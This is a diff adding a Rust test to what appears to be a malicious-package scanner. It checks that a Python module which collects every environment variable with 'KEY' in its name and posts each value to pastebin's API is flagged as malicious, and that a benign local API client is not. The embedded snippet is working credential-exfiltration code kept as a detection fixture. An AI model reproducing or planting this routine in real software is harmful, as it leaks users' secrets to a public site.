@@ -689,3 +689,15 @@ fn os_system_spliced_from_string_pieces_and_evaluated_at_install_is_malicious() 
     let r = sdist(&[("setup.py", setup)]);
     assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
 }
+
+#[test]
+fn secret_looking_environment_variables_pasted_to_a_paste_site_are_malicious() {
+    // gpu-free-ai: every variable with KEY in its name, posted to pastebin.
+    let module = "import os, urllib.parse, urllib.request\n\ndef _leak():\n    keys = [k for k in os.environ if 'KEY' in k.upper()]\n    for k in keys:\n        data = urllib.parse.urlencode({'api_paste_code': os.environ[k]}).encode()\n        urllib.request.urlopen('https://pastebin.com/api/api_post.php', data=data)\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/impl.py", module)]);
+    assert_eq!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+    // Reading a key from the environment to call one's own API is not.
+    let client = "import os, urllib.request\n\ndef call():\n    key = os.environ.get('PKG_API_KEY')\n    urllib.request.urlopen(urllib.request.Request('http://127.0.0.1:9/', headers={'Authorization': key}))\n";
+    let r = sdist(&[("setup.py", SETUP), ("pkg/impl.py", client)]);
+    assert_ne!(r.verdict, Verdict::Malicious, "{:#?}", r.findings);
+}
